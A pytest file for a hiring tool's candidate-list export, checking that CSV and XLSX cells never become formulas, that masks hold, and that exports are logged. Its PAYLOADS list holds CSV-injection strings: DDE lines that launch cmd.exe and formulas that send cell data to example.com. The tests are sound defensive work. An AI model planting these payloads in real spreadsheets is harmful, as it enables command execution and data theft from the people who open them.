"""Lists as spreadsheets: no cell is ever a formula, masks hold, the order is that of the page, and it is on record."""

from __future__ import annotations

import csv
import re
from dataclasses import replace
from functools import cache
from io import BytesIO, StringIO
from pathlib import Path

import pytest
from openpyxl import load_workbook

from evenhand.applicants.corrections import correct
from evenhand.documents.parse import parse
from evenhand.errors import Forbidden
from evenhand.ledger.recording import Recorder
from evenhand.mining.corrections import CorrectionInput
from evenhand.mining.pipeline import MinedResume, mine
from evenhand.records import Demand, Document, Evidence, Fact, Profile, Skill, Warning
from evenhand.rendering.cells import safe
from evenhand.screening.candidate_list import Viewer
from evenhand.screening.exports import CONTACT_HEADS, HEADS, MAX_ROWS, Export, csv_bytes, prepare_export, write_xlsx
from evenhand.search.criteria import Criteria
from evenhand.search.mining_results import to_mining_result
from evenhand.search.service import Service
from evenhand.search.visibility import CONTACT_ONLY, OPEN, Visibility, blind
from evenhand.settings import Settings
from evenhand.store.applications import Arrival
from evenhand.store.watchlist import WATCH_LISTS
from tests.screening.applicants import AS_OF, ASHA, BORIS, FIVE, JAVA_JOB, take_in

SIGNS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u2212", "\ufe63")
BEFORE = ("", " ", "\t", "\r", "\n", '"', "'", ' "', "\u00a0", "\u3000", "“", "\ufeff")
PAYLOADS = [
    *(before + sign + "1+1" for sign in SIGNS for before in BEFORE),
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    '=HYPERLINK("https://example.com?x="&A1,"click")',
    '=IMPORTXML(CONCAT("https://example.com/?v=", A1), "//a")',
    "=WEBSERVICE(A1)",
    "+SUM(1,1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "Ana;=1+1",
    "Ana,=1+1",
    "Ana\t=1+1",
    'Ana";=1+1',
    'Ana","=1+1',
    'Ana"\r\n"=1+1',
    "Ana\r=1+1",
    "Ana|@SUM(1)",
    "\r\n=1+1",
    "\u2028=1+1",
    "\x85=1+1",
    "%0A=1+1",
]
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?(e-?[0-9]+)?")


def viewer(visibility: Visibility = OPEN) -> Viewer:
    return Viewer("ann", visibility, lambda job: True)


def export(
    service: Service, settings: Settings, criteria: Criteria, *, visibility: Visibility = OPEN, contact: bool = False
) -> Export:
    recorder = Recorder(service.store, settings)
    return prepare_export(service, recorder, viewer(visibility), criteria, form="csv", contact=contact)


def rows_of(made: Export) -> list[dict[str, str]]:
    text = b"".join(csv_bytes(made)).decode()
    assert text.startswith("\ufeff")
    return list(csv.DictReader(StringIO(text[1:], newline="")))


def is_formula(cell: str) -> bool:
    """As a generous spreadsheet sees it: it drops what does not print, spaces and quotes, then looks at the sign."""
    if NUMBER.fullmatch(cell):
        return False
    bare = "".join(character for character in cell if character.isprintable() and not character.isspace())
    return bare.lstrip('"“”').startswith(SIGNS) or cell[:1] in tuple("\t\r\n")


def test_more_than_a_hundred_payloads() -> None:
    assert len(PAYLOADS) > 100
    assert len(set(PAYLOADS)) == len(PAYLOADS)


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_no_payload_survives_in_a_csv_whatever_the_separator(separator: str) -> None:
    rows = iter([tuple(PAYLOADS)])
    text = b"".join(csv_bytes(Export(tuple(PAYLOADS), rows, 1, 1, "x"))).decode()[1:]
    lines = list(csv.reader(StringIO(text, newline=""), delimiter=separator))
    assert [cell for line in lines for cell in line if is_formula(cell)] == []


def test_a_sheet_holds_every_payload_as_text(tmp_path: Path) -> None:
    rows = iter([(*PAYLOADS, 7, 1.5, None)])
    file = BytesIO()
    write_xlsx(Export((*PAYLOADS, "a", "b", "c"), rows, 1, 1, "x"), file)
    sheet = load_workbook(BytesIO(file.getvalue()))["Candidates"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert [cell.coordinate for cell in cells if cell.hyperlink] == []
    assert [cell.data_type for cell in list(sheet.iter_rows())[1]][-3:] == ["n", "n", "n"]  # the last is empty
    assert [cell.value for cell in list(sheet.iter_rows())[1]][-3:] == [7, 1.5, None]


@pytest.mark.parametrize("payload", PAYLOADS[:: len(PAYLOADS) // 2])
def test_no_field_of_a_candidate_becomes_a_formula(service: Service, settings: Settings, payload: str) -> None:
    """In everything a stranger or a colleague can write."""
    taken = take_in(service, replace(BORIS, words=f"{payload} reports"), source=payload)
    boris = service.store.applications.get(taken.ids["Boris"])
    for wanted in (
        CorrectionInput("name", payload),
        CorrectionInput("city", payload),
        CorrectionInput("position.title", payload, entry=0),
        CorrectionInput("position.employer", payload, entry=0),
        CorrectionInput("skill.add", payload, words="finance department"),
    ):
        if payload.strip():
            correct(service, boris, wanted, actor="ann")
    service.store.notes.add_tag(boris.id, payload.strip() or "tag", actor="ann")
    service.store.watchlist.add(WATCH_LISTS[0], payload.strip() or "x")
    rows = rows_of(export(service, settings, Criteria(job=taken.job), contact=True))
    assert len(rows) == 1
    assert [(name, cell) for name, cell in rows[0].items() if is_formula(cell)] == []
    file = BytesIO()
    write_xlsx(export(service, settings, Criteria(job=taken.job), contact=True), file)
    book = load_workbook(BytesIO(file.getvalue()))
    assert [c for row in book["Candidates"].iter_rows() for c in row if c.data_type == "f"] == []


@cache
def boris() -> tuple[Document, Profile]:
    document = parse(BORIS.text.encode())
    return document, mine(document, as_of=AS_OF)


def loaded(service: Service, job: str, payload: str, number: int) -> Arrival:
    """An applicant of whom every word is the payload: as if it had been mined from her file."""
    data = f"{number} {payload}".encode("utf-8", "replace")
    document, profile = boris()
    place = Evidence(0, 5, 1, "person", 1.0)
    fact = Fact(payload, "Boris", place)
    sha256 = service.store.files.save(data)
    profile = replace(
        profile,
        document=replace(profile.document, sha256=sha256, warnings=(Warning("hidden_text", payload),)),
        name=fact,
        city=fact,
        emails=(fact,),
        phones=(fact,),
        positions=tuple(replace(job, title=fact, employer=fact) for job in profile.positions),
        education=tuple(replace(study, university=fact, degree=fact) for study in profile.education),
        skills=(*profile.skills, Skill(payload, (payload,), 12, 12, "2020-01", (place,))),
    )
    kept = to_mining_result(MinedResume(replace(document, sha256=sha256), profile))
    return Arrival(job=job, sha256=sha256, source=payload, file=payload, form={"name": payload}, mined=kept)


def test_every_payload_in_every_field(service: Service, settings: Settings) -> None:
    demands = (*JAVA_JOB.demands, *(Demand((payload,), True) for payload in PAYLOADS[:20]))
    job = service.store.jobs.add(replace(JAVA_JOB, title=PAYLOADS[0], demands=demands))
    arrivals = [loaded(service, job, payload, number) for number, payload in enumerate(PAYLOADS)]
    saved = service.store.applications.add(arrivals)
    for each, payload in zip(saved, PAYLOADS, strict=True):
        service.store.notes.add_tag(each.application, payload.strip() or "tag", actor="ann")
    rows = rows_of(export(service, settings, Criteria(job=job), contact=True))
    assert len(rows) == len(PAYLOADS)
    assert [(name, cell) for row in rows for name, cell in row.items() if is_formula(cell)] == []
    # The payloads are there: nothing was lost by making them harmless.
    for name in ("candidate", "source", "file", "latest job", "employer", "city", "e-mail", "phone", "tags"):
        assert sum("1+1" in row[name] or "SUM" in row[name] for row in rows) > 100, name
    assert sum("1+1" in row["flags"] for row in rows) > 100
    file = BytesIO()
    write_xlsx(export(service, settings, Criteria(job=job), contact=True), file)
    cells = [cell for row in load_workbook(BytesIO(file.getvalue()))["Candidates"].iter_rows() for cell in row]
    assert len(cells) > 3_000
    assert [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink] == []


def test_what_is_in_a_row(service: Service, settings: Settings) -> None:
    taken = take_in(service, ASHA, BORIS)
    service.store.decisions.decide([taken.ids["Asha"]], "shortlist", actor="ann")
    service.store.notes.add_tag(taken.ids["Asha"], "call back", actor="ann")
    rows = rows_of(export(service, settings, Criteria(job=taken.job)))
    assert list(rows[0])[: len(HEADS)] == list(HEADS)
    asha = rows[0]
    score = sum(float(value) for name, value in asha.items() if name.startswith("part: "))
    assert float(asha["score"]) == pytest.approx(score, abs=1e-5)
    expected = {
        "rank": "1",
        "candidate": "Asha Rao",
        "application": taken.ids["Asha"],
        "status": "Shortlisted for Interview",
        "source": "web",
        "file": "asha.txt",
        "must-haves met": "1",
        "must-haves asked": "1",
        "matched (months)": "java (40)",
        "missing": "",
        "tags": "call back",
        "latest job": "Software Developer",
        "employer": "Initech Ltd",
        "city": "Chennai",
        "degree": "master",
        "relevant months": "40",
        "total months": "40",
    }
    assert {name: asha[name] for name in expected} == expected
    assert not {*CONTACT_HEADS} & {*asha}
    assert "asha.rao@example.org" not in str(rows)


def test_contact_data_only_for_those_who_may_see_them(service: Service, settings: Settings) -> None:
    taken = take_in(service, ASHA)
    [row] = rows_of(export(service, settings, Criteria(job=taken.job), contact=True))
    assert row["e-mail"] == "asha.rao@example.org"
    with pytest.raises(Forbidden, match="masked for you"):
        export(service, settings, Criteria(job=taken.job), visibility=CONTACT_ONLY, contact=True)


def test_the_masks_of_the_page_hold(service: Service, settings: Settings) -> None:
    taken = take_in(service, ASHA)
    service.store.notes.add_tag(taken.ids["Asha"], "Asha is nice", actor="ann")
    [row] = rows_of(export(service, settings, Criteria(job=taken.job), visibility=blind()))
    call = f"Candidate {taken.ids['Asha'][:6].upper()}"
    assert (row["candidate"], row["file"], row["city"]) == (call, f"{call}.txt", "")
    assert "Asha" not in str(row)
    assert "Chennai" not in str(row)


def test_the_order_and_the_filter_are_those_of_the_page(service: Service, settings: Settings) -> None:
    taken = take_in(service, *FIVE)
    for criteria in (
        Criteria(job=taken.job),
        Criteria(job=taken.job, text="python"),
        Criteria(job=taken.job, ranker="bm25"),
        Criteria(job=taken.job, facets={"city": ("Berlin",)}),
    ):
        with service.screener(taken.job, ranker=criteria.ranker) as screener:
            page = screener.screen(criteria)
        rows = rows_of(export(service, settings, criteria))
        assert [row["application"] for row in rows] == [each.entry.application for each in page.listed]
        assert [int(row["rank"]) for row in rows] == list(range(1, len(rows) + 1))


def test_beyond_what_the_page_looks_at_the_others_follow(
    service: Service, settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    from evenhand.screening import exports
    from evenhand.search import screener

    taken = take_in(service, *FIVE)
    whole = [row["application"] for row in rows_of(export(service, settings, Criteria(job=taken.job)))]
    monkeypatch.setattr(screener.Screener.__init__, "__defaults__", _with_depth(2))
    made = export(service, settings, Criteria(job=taken.job))
    assert sorted(row["application"] for row in rows_of(made)) == sorted(whole)
    monkeypatch.setattr(exports, "MAX_ROWS", 3)
    made = export(service, settings, Criteria(job=taken.job))
    assert (made.count, made.total, len(rows_of(made))) == (3, 5, 3)
    assert MAX_ROWS == 10_000


def _with_depth(depth: int) -> tuple[object, ...]:
    from evenhand.search.index.reader import DEPTH
    from evenhand.search.screener import Screener

    defaults = Screener.__init__.__defaults__ or ()
    return tuple(depth if value == DEPTH else value for value in defaults)


def test_it_is_on_record_with_its_count_and_the_search_sealed(service: Service, settings: Settings) -> None:
    taken = take_in(service, *FIVE)
    criteria = Criteria(job=taken.job, text="Asha")
    export(service, settings, criteria)
    [event] = service.store.ledger.events(kinds=["export"])
    assert (event.body["count"], event.body["of"], event.body["what"], event.body["contact"]) == (5, 5, "csv", False)
    assert len(event.body["subjects"]) == 5
    assert "Asha" not in str(event.to_json())
    assert service.store.ledger.opening(event.sequence) == {"criteria": criteria.to_json()}
    assert [each.kind for each in service.store.ledger.of_application(taken.ids["Asha"])][-1] == "export"


def test_flags_of_the_list_are_there_but_not_those_set_aside(service: Service, settings: Settings) -> None:
    service.store.watchlist.add("no_hire", "Initech Ltd")
    taken = take_in(service, BORIS)
    [row] = rows_of(export(service, settings, Criteria(job=taken.job)))
    assert row["flags"].startswith('On the no-hire list: Employer "Initech Ltd" matches')
    with service.screener(taken.job, ranker="best") as screener:
        [listed] = screener.screen(Criteria(job=taken.job)).listed
    [flag] = listed.result.flags
    service.store.notes.dismiss_flag(taken.ids["Boris"], flag.code, flag.message, actor="ann", reason="Another firm")
    [row] = rows_of(export(service, settings, Criteria(job=taken.job)))
    assert row["flags"] == ""


def test_numbers_stay_numbers() -> None:
    assert safe(-5) == -5
    assert safe(0.5) == 0.5
    assert safe("-5") == "'-5"
    assert safe(None) == ""
